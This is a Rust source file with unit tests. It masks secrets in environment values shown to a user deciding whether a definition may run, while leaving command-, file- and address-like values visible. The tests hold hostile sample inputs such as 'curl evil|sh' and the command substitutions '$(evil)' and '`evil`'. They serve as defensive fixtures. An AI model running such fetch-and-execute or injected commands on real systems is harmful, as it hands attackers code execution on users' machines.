//! Masks values for a user who decides whether a definition may run. A value that could be a command, a file or an
//! address stays visible.

use super::{
    MASK, NAMES, is_authorization_scheme, is_harmless, is_scheme, is_secret_name, is_shape, looks_random,
    masked_path, masked_query, password, without_passwords,
};
use crate::expand::Template;

/// Parts of words in names whose values are executed, read or connected to: the user must see these.
const ACTIVE_PARTS: [&str; 23] = [
    "COMMAND", "PROGRAM", "ASKPASS", "HELPER", "OPTION", "PATH", "FILE", "PRELOAD", "STARTUP", "CONFIG",
    "PROXY", "EDITOR", "PAGER", "BROWSER", "LIBRARY", "LOADER", "SCRIPT", "MODULE", "PLUGIN", "REQUIRE",
    "SHELL", "FLAGS", "HOOK",
];
/// Whole words of names whose value is executed, read or connected to.
const ACTIVE_WORDS: [&str; 18] = [
    "CMD", "EXEC", "EXE", "BIN", "URL", "URI", "HOST", "ADDR", "ADDRESS", "ENV", "DIR", "HOME", "ROOT", "RC",
    "INIT", "ARGS", "OPTS", "SOCK",
];
/// Characters that separate words, form paths, or mean something to a shell.
const ACTIVE_CHARACTERS: [char; 16] =
    ['/', '\\', '$', '`', '|', ';', '&', '<', '>', '(', ')', '{', '}', '"', '\'', '\n'];
/// Masks a value for a user who is asked for consent. A value that could be a command, a file or an address
/// is shown, whatever its name: a definition must not hide what it does behind a variable's name.
pub fn masked_for_consent(name: &str, value: &Template) -> String {
    if let Some(text) = value.literal() {
        return if is_inert_secret(name, text) { MASK.to_owned() } else { mask_inert_passwords(text) };
    }
    value.shown(|text| {
        let word = text.trim();
        match !is_authorization_scheme(word) && is_inert_secret(name, word) {
            true => MASK.to_owned(),
            false => mask_inert_passwords(text),
        }
    })
}

/// Masks a value of an env file for a user who is asked for consent. Such a file usually holds the user's own
/// values, so random-looking text is hidden, in paths too, unless the name says that it is executed.
pub fn masked_in_env_file(name: &str, text: &str) -> String {
    let is_address = is_scheme(text) && !text.contains(char::is_whitespace);
    if is_address {
        let address = without_passwords(text);
        let (address, query) = address.split_once('?').map_or((&*address, None), |(a, q)| (a, Some(q)));
        let address = masked_path(address);
        return query.map_or(address.clone(), |query| format!("{address}?{}", masked_query(query)));
    }
    if !name_is_executable(name) && is_inert_word(text) && looks_random(text) {
        return MASK.to_owned();
    }
    masked_for_consent(name, &Template::text(text))
}

/// Whether a value is a secret and cannot be a command, a file or an address.
fn is_inert_secret(name: &str, value: &str) -> bool {
    let word = match value.split_once(' ') {
        Some((scheme, word)) if is_authorization_scheme(scheme) => word,
        _ => value,
    };
    let is_private_key = word.starts_with("-----BEGIN")
        && word.chars().all(|c| c.is_ascii_alphanumeric() || c == '\n' || " +/=-".contains(c));
    if name_is_executable(name) || !(is_inert_word(word) || is_base64(word) || is_private_key) {
        return false;
    }
    is_private_key
        || is_shape(word)
        || looks_random(word)
        || (is_secret_name(name) && (word != value || !is_harmless(word)))
}

fn is_inert_word(word: &str) -> bool {
    !word.contains(|c: char| c.is_whitespace() || c.is_control() || ACTIVE_CHARACTERS.contains(&c))
}

/// Whether a word looks like base64, which may contain `/`, and is no path.
fn is_base64(word: &str) -> bool {
    word.len() >= 20
        && !word.starts_with('/')
        && word.bytes().all(|c| c.is_ascii_alphanumeric() || b"+/=".contains(&c))
        && word.bytes().any(|c| c.is_ascii_digit())
        && word.bytes().any(|c| c.is_ascii_uppercase())
        && word.bytes().any(|c| c.is_ascii_lowercase())
}

/// Whether a name says that its value is executed, read or connected to. The end of the name counts most:
/// `FILE_TOKEN` is a token, `TOKEN_FILE` is a file.
pub fn name_is_executable(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let joined: String = upper.chars().filter(char::is_ascii_alphanumeric).collect();
    if NAMES.iter().any(|part| joined.ends_with(part)) {
        return false;
    }
    let mut words = upper.split(|c: char| !c.is_ascii_alphanumeric());
    words.any(|word| ACTIVE_WORDS.contains(&word) || ACTIVE_PARTS.iter().any(|part| word.contains(part)))
}

/// Masks passwords in URLs, unless the password could be a command.
fn mask_inert_passwords(text: &str) -> String {
    let (mut shown, mut rest) = (String::with_capacity(text.len()), text);
    while let Some(at) = password(rest) {
        let end = at.end;
        shown.push_str(&rest[..at.start]);
        shown.push_str(if is_inert_word(&rest[at.clone()]) { MASK } else { &rest[at] });
        rest = &rest[end..];
    }
    shown + rest
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::expand::ExpansionContext;

    #[test]
    fn consent_shows_values_that_could_be_commands() {
        let template = |text: &str| Template::parse(text, &ExpansionContext::default()).unwrap();
        for (name, value) in [
            ("RESTIC_PASSWORD_COMMAND", "curl evil|sh"),
            ("RESTIC_PASSWORD_COMMAND", "evil"),
            ("GIT_ASKPASS", "evil0123456789abcdef"),
            ("SSH_ASKPASS", "./evil"),
            ("VAULT_TOKEN_HELPER", "evil-helper"),
            ("GIT_CONFIG_KEY_0", "core.sshCommand"),
            ("SSL_KEY_FILE", "ghp_0123456789abcdefghij"),
            ("PRIVATE_KEY_PATH", "keys"),
            ("API_TOKEN", "curl evil|sh"),
            ("API_TOKEN", "$(evil)"),
            ("API_TOKEN", "`evil`"),
            ("API_TOKEN", "a;b"),
            ("API_TOKEN", "dir/evil"),
            ("API_TOKEN", "ghp_0123456789abcdefghij;evil"),
            ("ANY", "sk-0123456789abcdef evil"),
            ("ANY", "-----BEGIN 0123456789;evil"),
            ("ANY", "x://u:;evil|sh@h"),
            ("ANY", "eyJ0123456789012345678901234567890123456789.a.b|evil"),
            ("API_KEY", "/run/secrets/key"),
            ("API_KEY", "true"),
        ] {
            assert_eq!(masked_for_consent(name, &Template::text(value)), value, "{name}={value}");
        }
        for (name, value, shown) in [
            ("API_TOKEN", "abcdefgh", MASK),
            ("FILE_TOKEN", "abcdefgh", MASK),
            ("DB_HOST_PASSWORD", "hunter2!", MASK),
            ("ANY", "ghp_abcdefghijklmnopqrstuvwx", MASK),
            ("ANY", "123e4567-e89b-12d3-a456-426614174000", MASK),
            ("ANY", "Y2FuYXJ5MDEyMzQ1Njc4OQ", MASK),
            ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", MASK),
            ("SIGNING", "-----BEGIN KEY-----\nMIIB/VQ+A=\n-----END KEY-----\n", MASK),
            ("authorization", "Bearer t0p", MASK),
            ("authorization", "Bearer ${T}", "Bearer ${T}"),
            ("authorization", "Bearer abcdefgh${T}", "•••${T}"),
            ("DATABASE_URL", "postgres://me:pw@h/x", "postgres://me:•••@h/x"),
            ("X", "run a://u:one@h b://u:two@h", "run a://u:•••@h b://u:•••@h"),
            ("TOKEN", "${KEY:-hunter2}", "${KEY:-•••}"),
        ] {
            assert_eq!(masked_for_consent(name, &template(value)), shown, "{name}={value}");
        }
    }
}
